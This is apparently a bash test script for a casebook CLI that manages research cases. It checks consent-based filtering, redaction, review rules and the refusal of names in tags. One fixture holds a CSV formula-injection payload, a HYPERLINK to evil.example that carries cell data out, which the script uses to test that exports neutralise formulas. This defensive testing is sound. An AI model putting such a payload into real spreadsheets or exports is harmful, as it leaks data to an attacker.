# Consent and review, as a coordinator and a partner see them: a database
# where every consent state occurs (and a rejected case), and exactly which
# cases each output (table, export, export --redact, query) includes, with
# the counts it prints. Then review that means something, redaction by an
# allow-list, labels that stay labels, and CSV cells no spreadsheet runs.
. "$(dirname "$0")/lib.bash"
EX=$SOURCE_DIR/examples/northern-triangle
export CASEBOOK_USER=R01

# One case of each consent state, from the examples (all complete, origin SLV or GTM).
python3 - "$EX" <<'PY'
import json, sys
ex = sys.argv[1]
def case(src, id, consent):
    d = json.load(open(f"{ex}/{src}.json"))
    d["id"] = id
    if consent is None:
        d.pop("consent", None)
    else:
        d["consent"] = consent
    return d
cases = [
    case("sv-001", "c-full", {"obtained": True, "scope": "full", "date": "2017-04-02"}),
    case("sv-002", "c-quotes", {"obtained": True, "scope": "anonymised_quotes", "date": "2017-10-12"}),
    case("sv-003", "c-aggregate", {"obtained": True, "scope": "aggregate_only"}),
    case("gt-001", "c-no-scope", {"obtained": True}),
    case("gt-002", "c-none", None),
    case("gt-003", "c-refused", {"obtained": False, "date": "2019-01-10"}),
    case("hn-001", "c-rejected", {"obtained": True, "scope": "full"}),
]
with open("states.jsonl", "w") as f:
    for c in cases:
        f.write(json.dumps(c) + "\n")
PY
run init --db c.db
run import --db c.db states.jsonl
expect_code 0 "import every consent state"
expect_err_contains "7 records: 7 added"
CASEBOOK_USER=R02 run review --db c.db c-rejected --reject --note "source missing"
expect_code 0 "reject"

ids() { python3 -c 'import json,sys; print(" ".join(json.loads(l)["id"] for l in sys.stdin if l.strip()))'; }

# Tables: every state but refused, no rejected case; the footnote says so.
run table --db c.db --rows consent --format tsv
expect_code 0 "table by consent"
expect_out "$(printf 'consent\tcases\nfull\t1\nanonymised_quotes\t1\naggregate_only\t1\nno_scope\t1\nnot_recorded\t1\nrefused\t0\ntotal\t5')" "table by consent"
run table --db c.db --rows consent --format json
[ "$(printf '%s' "$OUT" | python3 -c 'import json,sys; print(json.load(sys.stdin)["notes"][-1])')" = \
  "Left out 2 cases: 1 whose consent was refused or withdrawn (counted nowhere), 1 rejected in review (--where status=rejected shows them)." ] ||
    fail "the table's note on what it left out: $OUT"
run table --db c.db --rows origin --format csv
expect_out "$(printf 'origin,cases\r\nSLV,3\r\nGTM,2\r\ntotal,5\r')" "table by origin counts 5"
# Refused consent is counted nowhere, even when a filter names it; rejected cases when asked for.
run table --db c.db --rows origin --where consent=refused --format csv
expect_out_contains "total,0" "refused counted nowhere"
run table --db c.db --rows origin --where status=rejected --format csv
expect_out_contains "total,1" "rejected when asked"

# export: the records of the research team (refused and rejected left out).
run export --db c.db
expect_code 0 "export"
[ "$(printf '%s\n' "$OUT" | ids)" = "c-aggregate c-full c-no-scope c-none c-quotes" ] || fail "export cases: $(printf '%s\n' "$OUT" | ids)"
expect_err "export: left out 2 cases: 1 whose consent was refused or withdrawn (counted nowhere), 1 rejected in review (--where status=rejected shows them)"

# export --redact: only full and anonymised_quotes.
run export --db c.db --redact
expect_code 0 "export --redact"
[ "$(printf '%s\n' "$OUT" | ids)" = "c-full c-quotes" ] || fail "export --redact cases: $(printf '%s\n' "$OUT" | ids)"
expect_err "export --redact: left out 5 cases: 1 whose consent was refused or withdrawn (counted nowhere), 3 whose consent does not allow sharing the record (aggregate_only, no scope or none recorded: tables only), 1 rejected in review (--where status=rejected shows them)"
run export --db c.db --redact --where status=rejected
[ "$(printf '%s\n' "$OUT" | ids)" = "c-rejected" ] || fail "export --redact of rejected cases when asked"

# query: records are redacted like export --redact unless --unredacted.
run query --db c.db --format jsonl
expect_code 0 "query records"
[ "$(printf '%s\n' "$OUT" | ids)" = "c-full c-quotes" ] || fail "query records: $(printf '%s\n' "$OUT" | ids)"
expect_err "query: left out 5 cases: 1 whose consent was refused or withdrawn (counted nowhere), 3 whose consent does not allow sharing the record (aggregate_only, no scope or none recorded: tables only), 1 rejected in review (--where status=rejected shows them)"
case "$OUT" in *pseudonym*|*narrative*|*locality*|*reference*) fail "query records are not redacted: $OUT" ;; esac
printf '%s\n' "$OUT" | grep -q '"date":"2017-04"' || fail "query records: dates cut to the month"
run query --db c.db --format jsonl --unredacted
[ "$(printf '%s\n' "$OUT" | ids)" = "c-aggregate c-full c-no-scope c-none c-quotes" ] || fail "query --unredacted: $(printf '%s\n' "$OUT" | ids)"
expect_out_contains '"pseudonym":' "query --unredacted prints whole records"
expect_err "query: left out 2 cases: 1 whose consent was refused or withdrawn (counted nowhere), 1 rejected in review (--where status=rejected shows them)"
run query --db c.db --format tsv --columns id,consent
expect_out "$(printf 'id\tconsent\nc-aggregate\taggregate_only\nc-full\tfull\nc-no-scope\tno_scope\nc-none\tnot_recorded\nc-quotes\tanonymised_quotes')" "query listing"
expect_err "query: left out 2 cases: 1 whose consent was refused or withdrawn (counted nowhere), 1 rejected in review (--where status=rejected shows them)"
run query --db c.db --count
expect_out "5" "query --count"
run query --db c.db --format tsv --unredacted
expect_code 2 "--unredacted is for records"

# A consent refused with a scope, or dated after today, is refused.
python3 - <<'PY'
import json
r = {"schema_version": "1", "id": "bad-consent", "consent": {"obtained": False, "scope": "full"}}
json.dump(r, open("refused-scope.json", "w"), indent=2)
r = {"schema_version": "1", "id": "future-consent", "consent": {"obtained": True, "scope": "full", "date": "2999-01-01"}}
json.dump(r, open("future.json", "w"), indent=2)
PY
run validate refused-scope.json future.json
expect_code 1 "consent rules"
expect_err_contains "refused-scope.json:6:14: error: /consent/scope: consent was refused or withdrawn (obtained: false), so it has no scope"
expect_err_contains "future.json:7:13: error: /consent/date: \"2999-01-01\" is in the future"

# Review: a file that says "reviewed" is refused by create and import.
python3 - "$EX" <<'PY'
import json, sys
d = json.load(open(f"{sys.argv[1]}/sv-004.json"))
d["id"] = "r-1"
d["status"] = "reviewed"
json.dump(d, open("reviewed.json", "w"), indent=2)
PY
run create --db c.db --from reviewed.json
expect_code 1 "create refuses reviewed"
expect_err_contains "reviewed.json:4:13: error: /status: status \"reviewed\" is set only by 'casebook review ID --approve'"
run import --db c.db reviewed.json
expect_code 1 "import refuses reviewed"
expect_err_contains "reviewed.json:4:13: error: /status: status \"reviewed\" is set only by 'casebook review ID --approve'"
run show --db c.db r-1
expect_code 1 "nothing stored"

# Review by the last editor needs --self; an edit of a harm withdraws the review.
run review --db c.db c-full --approve
expect_code 1 "self-review refused"
expect_err "casebook: error: R01 made the last change to c-full (revision 1, import): a case is reviewed by someone else; say --self to review your own work, and its history will say so"
CASEBOOK_USER=R02 run review --db c.db c-full --approve --note "sources checked"
expect_code 0 "review by someone else"
cat >editor.sh <<'SH'
#!/bin/sh
# Turns the threat of sv-001 into a physical assault.
sed -i 's/"type": "threat"/"type": "physical_assault"/' "$1"
SH
chmod +x editor.sh
grep -q '"type": "threat"' <(CASEBOOK_USER=R01 "$CASEBOOK" show --db c.db c-full --format json) || fail "the fixture has a threat"
VISUAL="$WORK/editor.sh" run edit --db c.db c-full
expect_code 0 "edit a reviewed case"
run show --db c.db c-full --format json
expect_out_contains '"status": "complete"' "the edit made it complete again"
run log --db c.db c-full
expect_out_contains "R01  edit  c-full (revision 3)"
expect_out_contains "  note: review withdrawn, status reviewed → complete: /after_return/harms/0/type changed"
run review --db c.db c-full --approve --self --note "small team"
expect_code 0 "self-review with --self"
run log --db c.db c-full
expect_out_contains "  note: self-review: small team"

# Tags are labels; recorded.by is a code: a name in either is refused.
python3 - <<'PY'
import json
json.dump({"schema_version": "1", "id": "t-1", "tags": ["Ana María López"]}, open("name-tag.json", "w", encoding="utf-8"), indent=2, ensure_ascii=False)
json.dump({"schema_version": "1", "id": "t-2", "recorded": {"by": "Ana López 555-0101"}}, open("name-by.json", "w", encoding="utf-8"), indent=2, ensure_ascii=False)
PY
run validate name-tag.json name-by.json
expect_code 1 "names are not labels"
expect_err_contains "name-tag.json:5:5: error: /tags/0: is not a tag: 1 to 64 letters, digits"
expect_err_contains "name-by.json:5:11: error: /recorded/by: is not a researcher code"
case "$ERR" in *López*) fail "the name is repeated in the message: $ERR" ;; esac

# CSV: no cell a spreadsheet would run.
python3 - "$EX" <<'PY'
import json, sys
d = json.load(open(f"{sys.argv[1]}/sv-002.json"))
d["id"] = "f-1"
d["recorded"]["project"] = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
json.dump(d, open("formula.json", "w"), indent=2)
PY
run init --db f.db
run import --db f.db formula.json
expect_code 0 "a formula-like project is valid text"
"$CASEBOOK" export --db f.db --format csv >export.csv 2>/dev/null
"$CASEBOOK" query --db f.db --columns id,project --format csv >query.csv 2>/dev/null
"$CASEBOOK" table --db f.db --rows project --format csv >table.csv 2>/dev/null
"$CASEBOOK" query --db f.db --columns id,project --format tsv >query.tsv 2>/dev/null
for f in export.csv query.csv table.csv query.tsv; do
    grep -q "\"'=HYPERLINK\|^'=HYPERLINK\|[,	]'=HYPERLINK" "$f" || fail "$f: the formula is not neutralised: $(cat "$f")"
    python3 - "$f" <<'PY' || fail "$f: a cell starts with ="
import csv, sys
delim = "\t" if sys.argv[1].endswith(".tsv") else ","
for row in csv.reader(open(sys.argv[1], newline=""), delimiter=delim):
    for cell in row:
        assert not cell.startswith(("=", "+", "@")), cell
PY
done

finish
